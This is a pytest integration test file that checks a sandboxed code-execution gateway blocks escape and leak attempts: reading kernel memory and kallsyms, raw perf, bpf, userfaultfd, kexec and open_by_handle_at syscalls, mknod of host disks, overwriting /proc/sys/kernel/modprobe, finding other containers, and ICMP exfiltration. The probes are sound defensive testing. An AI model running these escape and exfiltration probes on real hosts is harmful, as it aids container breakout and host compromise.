"""Threat: code in a sandbox learning about, or acting on, the host and the
gateway: kernel memory and debug interfaces, host-wide syscalls (perf, bpf,
userfaultfd, kexec, file handles), device nodes, ``/proc/sys`` knobs, the names
and ids of the host's other containers, the gateway's process and data
directory; and data leaving by ICMP or by a file a later session is given.

Covered elsewhere: the host's name, host files, engine sockets, secrets in
``/proc`` and ``core_pattern``/``sysrq-trigger`` writes (test_host.py); keyrings
and ``personality`` (tests/integration/test_seccomp.py); raw sockets, UDP, IPv6
and abstract sockets (test_network.py); a live neighbour's files (test_isolation.py).
"""

from __future__ import annotations

import os

import docker
import httpx
import pytest

from tests.integration.conftest import RunningGateway
from tests.security.conftest import (
    RUNTIME,
    UNREACHABLE,
    Bystander,
    in_child,
    new_session,
    run_json,
    session_containers,
)

pytestmark = pytest.mark.integration

# ---------------------------------------------------------------- kernel interfaces

SHOW_NOTHING = {
    # file: read must fail or return nothing; dir: listing must fail or be empty
    "/proc/kcore": "file",  # the host's physical memory as an ELF core
    "/sys/firmware": "dir",  # ACPI tables, EFI variables, DMI
    "/sys/kernel/debug": "dir",  # debugfs
    "/proc/keys": "file",  # every key the host kernel holds (the caller may view)
}


@pytest.mark.parametrize("path", list(SHOW_NOTHING))
def test_kernel_memory_and_debug_interfaces_show_nothing(http: httpx.Client, session_id: str, path: str) -> None:
    code = (
        f"path, kind = {path!r}, {SHOW_NOTHING[path]!r}\n"
        "def look():\n"
        "    if kind == 'dir':\n"
        "        found = []\n"
        "        for d, dirs, files in os.walk(path, onerror=lambda e: None):\n"
        "            found += [os.path.join(d, n) for n in files]\n"
        "        return found[:5]\n"
        "    with open(path, 'rb') as f:\n"
        "        return f.read(4096).hex()\n"
        "try:\n"
        "    shown = look()\n"
        "except OSError as e:\n"
        "    shown = errno.errorcode.get(e.errno)\n"
        "print(json.dumps(shown))\n"
    )
    shown = run_json(http, session_id, code)
    assert shown in ("", [], "ENOENT", "EACCES", "EPERM"), shown


def test_kernel_symbol_addresses_are_hidden(http: httpx.Client, session_id: str) -> None:
    # /proc/kallsyms with real addresses defeats KASLR for any host-kernel exploit
    code = (
        "try:\n"
        "    lines = open('/proc/kallsyms').read().splitlines()\n"
        "    shown = {'lines': len(lines), 'nonzero': [l for l in lines if int(l.split()[0], 16)][:3]}\n"
        "except OSError as e:\n"
        "    shown = errno.errorcode.get(e.errno)\n"
        "print(json.dumps(shown))\n"
    )
    shown = run_json(http, session_id, code)
    if RUNTIME == "runsc":
        assert shown == "ENOENT", shown  # gVisor has no kallsyms at all
    else:
        assert isinstance(shown, dict) and shown["lines"] > 0 and shown["nonzero"] == [], shown


# ---------------------------------------------------------------- host-wide syscalls

# (x86_64 numbers; each call is made in a child process, which may well crash it)
SYSCALLS = {
    # perf_event_attr{type=PERF_TYPE_SOFTWARE, size=128}, pid 0, any cpu: the usual
    # first step of perf exploits and a side channel on the host
    "perf_event_open": (
        "attr = (ctypes.c_char * 128)()\n"
        "ctypes.c_uint32.from_buffer(attr, 0).value = 1\n"
        "ctypes.c_uint32.from_buffer(attr, 4).value = 128\n"
        "call = lambda: raw(298, attr, L(0), L(-1), L(-1), L(0))\n"
    ),
    # a page-fault handler in user space: stretches race windows in host-kernel exploits
    "userfaultfd": "call = lambda: raw(323, L(0))\n",
    # BPF_PROG_LOAD with an empty attribute: loading programs into the host kernel
    "bpf": "attr = (ctypes.c_char * 128)()\ncall = lambda: raw(321, L(5), attr, L(128))\n",
    # replace the running (host) kernel
    "kexec_load": "call = lambda: raw(246, L(0), L(0), None, L(0))\n",
    # open a file by a guessed handle, bypassing the mount namespace ("shocker", 2014)
    "open_by_handle_at": (
        "handle = (ctypes.c_char * 136)()\n"
        "ctypes.c_uint32.from_buffer(handle, 0).value = 8\n"  # handle_bytes
        "ctypes.c_int.from_buffer(handle, 4).value = 1\n"  # FILEID_INO32_GEN
        "ctypes.c_uint64.from_buffer(handle, 8).value = 2\n"  # inode 2: the root of a file system
        "call = lambda: raw(304, L(-100), handle, L(0))\n"  # AT_FDCWD, O_RDONLY
    ),
}
EXPECTED_ERRNO = dict.fromkeys(SYSCALLS, "EPERM")
"""The seccomp profile, or no capability: runc, and runsc registered with
``--oci-seccomp`` (scripts/ensure-runsc.sh), which applies the profile inside gVisor."""
GVISOR_WITHOUT_PROFILE = {
    "perf_event_open": "ENODEV",
    "userfaultfd": "ENOSYS",
    "bpf": "EPERM",
    "kexec_load": "EPERM",
    "open_by_handle_at": "ENOTSUP",
}
"""gVisor's own kernel where runsc runs without ``--oci-seccomp``: no perf
events, no userfaultfd, no file handles (docs/security.md)."""


def gvisor_ignores_the_profile(client: docker.DockerClient) -> bool:
    runsc = client.info().get("Runtimes", {}).get("runsc", {})
    return RUNTIME == "runsc" and "--oci-seccomp" not in runsc.get("runtimeArgs", [])


@pytest.mark.parametrize("name", list(SYSCALLS))
def test_host_kernel_syscalls_are_refused(
    http: httpx.Client, session_id: str, docker_client: docker.DockerClient, name: str
) -> None:
    code = (
        "L = ctypes.c_long\n"
        "def raw(nr, *args):\n"
        "    if _libc.syscall(L(nr), *args) == -1:\n"
        "        err = ctypes.get_errno()\n"
        "        raise OSError(err, os.strerror(err))\n" + SYSCALLS[name] + "print(json.dumps(outcome(call)))\n"
    )
    seen = run_json(http, session_id, in_child(code))
    expected = GVISOR_WITHOUT_PROFILE if gvisor_ignores_the_profile(docker_client) else EXPECTED_ERRNO
    assert seen == expected[name], seen


MKNOD_SEEN: dict[str, dict[str, list[str | None]]] = {
    # no CAP_MKNOD
    "runc": {
        f"{mount}/kgw-{name}": ["EPERM", None]
        for name in ("sda", "mem")
        for mount in ("/tmp", "/workspace", "/dev/shm")
    },
    # gVisor lets the session's uid make the node in its own file system, but the
    # node opens nothing: gVisor has no host devices (ENXIO)
    "runsc": {
        f"{mount}/kgw-{name}": ["ok", "ENXIO"]
        for name in ("sda", "mem")
        for mount in ("/tmp", "/workspace", "/dev/shm")
    },
}


def test_a_block_device_node_gives_no_disk(http: httpx.Client, session_id: str) -> None:
    # mknod of the host's first disk (8:0) and of /dev/mem (1:1) on a writable mount
    code = (
        "import stat\n"
        "seen = {}\n"
        "for name, kind, dev in (('sda', stat.S_IFBLK, os.makedev(8, 0)), ('mem', stat.S_IFCHR, os.makedev(1, 1))):\n"
        "    for mount in ('/tmp', '/workspace', '/dev/shm'):\n"
        "        path = f'{mount}/kgw-{name}'\n"
        "        made = outcome(lambda: os.mknod(path, 0o666 | kind, dev))\n"
        "        def read():\n"
        "            with open(path, 'rb') as f:\n"
        "                return f.read(512)\n"
        "        try:\n"
        "            got = read().hex()[:64] if made == 'ok' else None\n"
        "        except OSError as e:\n"
        "            got = errno.errorcode.get(e.errno)\n"
        "        seen[path] = [made, got]\n"
        "print(json.dumps(seen))\n"
    )
    seen = run_json(http, session_id, code)
    assert seen == MKNOD_SEEN[RUNTIME], seen


SYSCTLS = [
    "/proc/sys/vm/drop_caches",  # host-wide: flush every cache on the machine
    "/proc/sys/kernel/randomize_va_space",  # host-wide: turn off ASLR for every process
    "/proc/sys/kernel/hostname",  # the UTS name the gateway and the audit see
    "/proc/sys/kernel/modprobe",  # host-wide: a helper the host kernel runs as root
]


@pytest.mark.parametrize("path", SYSCTLS)
def test_proc_sys_knobs_cannot_be_written(http: httpx.Client, session_id: str, path: str) -> None:
    host_before = _host_read(path)
    code = (
        f"path = {path!r}\n"
        "def read():\n"
        "    try:\n"
        "        return open(path).read()\n"
        "    except OSError as e:\n"
        "        return errno.errorcode.get(e.errno)\n"
        "before = read()\n"
        "def write():\n"
        "    with open(path, 'w') as f:\n"
        "        f.write('2\\n' if 'randomize' in path else '/tmp/kgw-evil\\n' if 'modprobe' in path else '3\\n')\n"
        "print(json.dumps({'write': outcome(write), 'same': read() == before}))\n"
    )
    seen = run_json(http, session_id, code)
    assert seen["write"] in ("EROFS", "EACCES", "EPERM", "ENOENT"), seen
    assert seen["same"] is True
    if "hostname" not in path:  # the host's own value (the container has its own hostname)
        assert _host_read(path) == host_before


def _host_read(path: str) -> str | None:
    try:
        with open(path) as f:
            return f.read()
    except OSError:
        return None


# ---------------------------------------------------------------- the host and the gateway

IDENTITY_FILES = """\
import glob
texts = {}
for path in (['/etc/hosts', '/etc/hostname', '/etc/resolv.conf', '/proc/self/cgroup', '/proc/self/mountinfo',
              '/proc/1/cgroup', '/proc/1/mountinfo', '/proc/self/environ', '/proc/1/environ', '/proc/self/cmdline',
              '/proc/self/sched', '/proc/net/unix'] + glob.glob('/proc/[0-9]*/cmdline')):
    try:
        texts[path] = open(path, 'rb').read().decode('utf-8', 'replace')
    except OSError:
        pass
names = []
for top in ('/sys/fs/cgroup', '/run', '/var/run', '/var/lib', '/etc'):
    for d, dirs, files in os.walk(top, onerror=lambda e: None):
        if d.count('/') > 5:
            dirs[:] = []
        names += [os.path.join(d, n) for n in dirs + files]
texts['names'] = '\\n'.join(names)
"""


OWN_ID_IN_CGROUP = {"runc": True, "runsc": False}
"""Whether the probe finds its own container's id in /proc/self/cgroup: under runc
the check that it reads what it should; gVisor's /proc shows its own kernel's
cgroups, which name no container (docs/security.md, what differs under gVisor)."""


def test_no_other_container_or_gateway_path_is_named_inside(
    http: httpx.Client,
    gateway: RunningGateway,
    session_id: str,
    bystander: Bystander,
    docker_client: docker.DockerClient,
) -> None:
    (other,) = session_containers(docker_client, bystander.session_id)
    (own,) = session_containers(docker_client, session_id)
    secrets_ = {
        "bystander container id": other.id[:12],
        "bystander container name": other.name,
        "bystander session id": bystander.session_id,
        "bystander kernel id": other.labels["kernelgw.kernel"],
        "gateway data dir": str(gateway.settings.data_dir),
    }
    code = IDENTITY_FILES + (
        f"wanted = {secrets_!r}\n"
        "print(json.dumps({what: sorted(p for p, t in texts.items() if needle in t)\n"
        "                  for what, needle in wanted.items()}))\n"
    )
    found = run_json(http, session_id, code)
    assert found == {what: [] for what in secrets_}, found
    # the probe does read what it should: its own container's id shows in its cgroup
    # under runc; gVisor's /proc/self/cgroup is its own kernel's view
    own_found = run_json(
        http, session_id, IDENTITY_FILES + f"print(json.dumps({own.id!r} in texts['/proc/self/cgroup']))\n"
    )
    assert own_found is OWN_ID_IN_CGROUP[RUNTIME]


def test_gateway_process_and_data_directory_are_out_of_reach(
    http: httpx.Client, gateway: RunningGateway, session_id: str
) -> None:
    data_dir = str(gateway.settings.data_dir)
    gateway_pid = os.getpid()  # the test gateway runs inside this process
    code = (
        f"data_dir, gw_pid = {data_dir!r}, {gateway_pid}\n"
        "def cmdline(pid):\n"
        "    return open(f'/proc/{pid}/cmdline', 'rb').read().decode('utf-8', 'replace')\n"
        "pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
        "texts = []\n"
        "for p in pids:\n"
        "    try:\n"
        "        texts.append(cmdline(p))\n"
        "    except OSError:\n"
        "        pass\n"
        "host_like = [t for t in texts if any(w in t for w in ('pytest', 'kernelgw serve', 'dockerd', 'containerd', 'uvicorn'))]\n"
        "print(json.dumps({\n"
        "    'data_dir': outcome(lambda: os.stat(data_dir)),\n"
        "    'database': outcome(lambda: os.stat(os.path.join(data_dir, 'kernelgw.db'))),\n"
        "    'gateway_cwd': outcome(lambda: os.stat(f'/proc/{gw_pid}/root/{data_dir}')),\n"
        "    'host_like': host_like,\n"
        "    'many_pids': len(pids) > 50,\n"
        "}))\n"
    )
    seen = run_json(http, session_id, code)
    assert seen == {
        "data_dir": "ENOENT",
        "database": "ENOENT",
        "gateway_cwd": "ENOENT",
        "host_like": [],
        "many_pids": False,
    }, seen


# ---------------------------------------------------------------- exfiltration


def test_icmp_echo_through_a_ping_socket_is_never_sent(http: httpx.Client, session_id: str) -> None:
    # an unprivileged ICMP datagram socket (no CAP_NET_RAW needed where
    # ping_group_range allows it): data in an echo request's payload
    code = (
        "def ping(host):\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\n"
        "    s.settimeout(3)\n"
        "    s.sendto(b'\\x08\\x00\\x00\\x00\\x00\\x01\\x00\\x01' + b'kgw-exfil' * 8, (host, 0))\n"
        "print(json.dumps({h: outcome(lambda: ping(h)) for h in ('192.0.2.1', '8.8.8.8', '172.17.0.1')}))\n"
    )
    seen = run_json(http, session_id, code)
    # refused outright (no ping sockets) or no route: never sent
    assert set(seen.values()) <= UNREACHABLE | {"EACCES", "EPERM"}, seen


def test_a_deleted_sessions_files_never_reach_the_next_session(http: httpx.Client) -> None:
    # a session plants files where a later session (perhaps started from the
    # pool, perhaps in a reused container) might be handed them, then is deleted
    with new_session(http) as planter:
        planted = run_json(
            http,
            planter,
            "for d in ('/tmp', '/workspace', '/dev/shm', '/opt/kernelgw/packages'):\n"
            "    open(f'{d}/kgw-planted.txt', 'w').write('planted')\n"
            "print(json.dumps(sorted(os.listdir('/workspace'))))\n",
        )
        assert "kgw-planted.txt" in planted
        assert http.get(f"/v1/sessions/{planter}/files/kgw-planted.txt").status_code == 200
    for _ in range(2):  # the next two sessions: a pooled one, then a fresh one
        with new_session(http) as sid:
            seen = run_json(
                http,
                sid,
                "print(json.dumps([f'{d}/kgw-planted.txt' for d in ('/tmp', '/workspace', '/dev/shm',\n"
                "                  '/opt/kernelgw/packages') if os.path.lexists(f'{d}/kgw-planted.txt')]))\n",
            )
            assert seen == []
            assert http.get(f"/v1/sessions/{sid}/files/kgw-planted.txt").status_code == 404
            listing = http.get(f"/v1/sessions/{sid}/files", params={"recursive": "true"})
            assert listing.status_code == 200 and "kgw-planted" not in listing.text
